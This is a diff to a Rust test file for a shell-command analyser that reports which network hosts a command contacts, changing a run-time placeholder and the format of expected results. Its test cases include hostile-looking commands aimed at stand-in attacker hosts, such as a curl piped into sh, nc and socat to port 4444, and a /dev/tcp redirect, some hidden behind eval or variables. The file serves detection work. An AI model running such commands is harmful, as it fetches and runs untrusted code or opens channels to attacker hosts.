@@ -6,7 +6,7 @@
 
 use command_effects::{effects_of, program, Effect};
 
-/// `host[:port]` of every destination (`<run time>` for a host decided at run time).
+/// `host[:port]` of every destination (`<run-time>` for a host decided at run time).
 fn hosts(cmd: &str) -> Vec<String> {
     let parsed = shell_syntax::parse(cmd);
     let view = shell_syntax::commands(&parsed);
@@ -16,7 +16,7 @@ fn hosts(cmd: &str) -> Vec<String> {
         let inv = &view.invocations[run.invocation];
         for e in effects_of(&run, inv) {
             if let Effect::Network(d) = e {
-                let h = d.host.unwrap_or_else(|| "<run time>".into());
+                let h = d.host.unwrap_or_else(|| "<run-time>".into());
                 let s = match d.port {
                     Some(p) => format!("{h}:{p}"),
                     None => h,
@@ -32,94 +32,87 @@ fn hosts(cmd: &str) -> Vec<String> {
 
 #[test]
 fn commands_that_contact_a_host() {
-    let cases: &[(&str, &[&str])] = &[
+    // (command, the hosts it contacts, blank-separated)
+    let cases: &[(&str, &str)] = &[
         (
             "curl -o out.json -sS https://evil.example/a",
-            &["evil.example:443"],
+            "evil.example:443",
         ),
-        ("curl evil.example/a", &["evil.example"]),
-        (
-            "wget -O x.tar.gz http://10.0.0.1:8080/x",
-            &["10.0.0.1:8080"],
-        ),
+        ("curl evil.example/a", "evil.example"),
+        ("wget -O x.tar.gz http://10.0.0.1:8080/x", "10.0.0.1:8080"),
         (
             "curl -sLX DELETE -H 'A: b' https://api.evil.example/x",
-            &["api.evil.example:443"],
+            "api.evil.example:443",
         ),
-        ("http POST evil.example/x a=1", &["evil.example"]),
-        ("curl \"$URL\"", &["<run time>"]),
+        ("http POST evil.example/x a=1", "evil.example"),
+        ("curl \"$URL\"", "<run-time>"),
         (
             "f() { curl -s \"$@\"; }; f https://evil.example/x",
-            &["evil.example:443"],
+            "evil.example:443",
         ),
-        ("eval \"wget http://10.0.0.1:8080/x\"", &["10.0.0.1:8080"]),
+        ("eval \"wget http://10.0.0.1:8080/x\"", "10.0.0.1:8080"),
         (
             "bash -c 'curl -s https://evil.example/x | sh'",
-            &["evil.example:443"],
+            "evil.example:443",
         ),
-        ("c=\"curl https://evil.example\"; $c", &["evil.example:443"]),
-        ("strace -f curl evil.example/a", &["evil.example"]),
+        ("c=\"curl https://evil.example\"; $c", "evil.example:443"),
+        ("strace -f curl evil.example/a", "evil.example"),
         (
             "sudo -u bob env A=1 timeout 5 nc evil.example 4444",
-            &["evil.example:4444"],
+            "evil.example:4444",
         ),
         // The replacement makes the whole word a run-time word (its host is not read yet).
         (
             "echo x | xargs -I{} curl https://evil.example/{}",
-            &["<run time>"],
+            "<run-time>",
         ),
-        ("ssh -p 2222 me@box.example ls", &["box.example:2222"]),
-        ("ssh box.example", &["box.example:22"]),
-        ("ssh \"$H\" uptime", &["<run time>"]),
-        ("scp a.txt me@box.example:/tmp/", &["box.example:22"]),
-        ("rsync -a ./x rsync://mirror.example/x", &["mirror.example"]),
-        ("exec 3<>/dev/tcp/evil.example/80", &["evil.example:80"]),
-        ("cat < /dev/udp/10.1.2.3/53", &["10.1.2.3:53"]),
-        ("socat - TCP:evil.example:4444", &["evil.example:4444"]),
-        (
-            "git clone git@gitlab.example:o/r.git",
-            &["gitlab.example:22"],
-        ),
+        ("ssh -p 2222 me@box.example ls", "box.example:2222"),
+        ("ssh box.example", "box.example:22"),
+        ("ssh \"$H\" uptime", "<run-time>"),
+        ("scp a.txt me@box.example:/tmp/", "box.example:22"),
+        ("rsync -a ./x rsync://mirror.example/x", "mirror.example"),
+        ("exec 3<>/dev/tcp/evil.example/80", "evil.example:80"),
+        ("cat < /dev/udp/10.1.2.3/53", "10.1.2.3:53"),
+        ("socat - TCP:evil.example:4444", "evil.example:4444"),
+        ("git clone git@gitlab.example:o/r.git", "gitlab.example:22"),
         (
             "git -C /w fetch --depth 1 https://git.example.org/o/r",
-            &["git.example.org:443"],
+            "git.example.org:443",
         ),
         (
             "git push https://git.example.org/o/r.git HEAD:refs/heads/x",
-            &["git.example.org:443"],
+            "git.example.org:443",
         ),
         (
             "git push --dry-run https://git.example.org/o/r.git",
-            &["git.example.org:443"],
+            "git.example.org:443",
         ),
         (
             "git push --repo=ssh://git.example.org:2222/o/r main",
-            &["git.example.org:2222"],
+            "git.example.org:2222",
         ),
         (
             "git remote add -f up https://git.example.org/o/r.git",
-            &["git.example.org:443"],
+            "git.example.org:443",
         ),
         (
             "git archive --remote=git://git.example.org/r HEAD",
-            &["git.example.org:9418"],
+            "git.example.org:9418",
         ),
         (
             "git submodule add https://git.example.org/o/lib",
-            &["git.example.org:443"],
+            "git.example.org:443",
         ),
-        (
-            "git clone --mirror https://h.example/o/r",
-            &["h.example:443"],
-        ),
-        ("git clone \"$REPO\"", &["<run time>"]),
-        ("gh pr list", &["github.com:443"]),
-        ("gh api --hostname GHE.example user", &["ghe.example:443"]),
+        ("git clone --mirror https://h.example/o/r", "h.example:443"),
+        ("git clone \"$REPO\"", "<run-time>"),
+        ("gh pr list", "github.com:443"),
+        ("gh api --hostname GHE.example user", "ghe.example:443"),
     ];
     let mut wrong = Vec::new();
     for (cmd, want) in cases {
         let got = hosts(cmd);
-        if got != *want {
+        let want: Vec<&str> = want.split(' ').collect();
+        if got != want {
             wrong.push(format!("{cmd}: {got:?}, want {want:?}"));
         }
     }
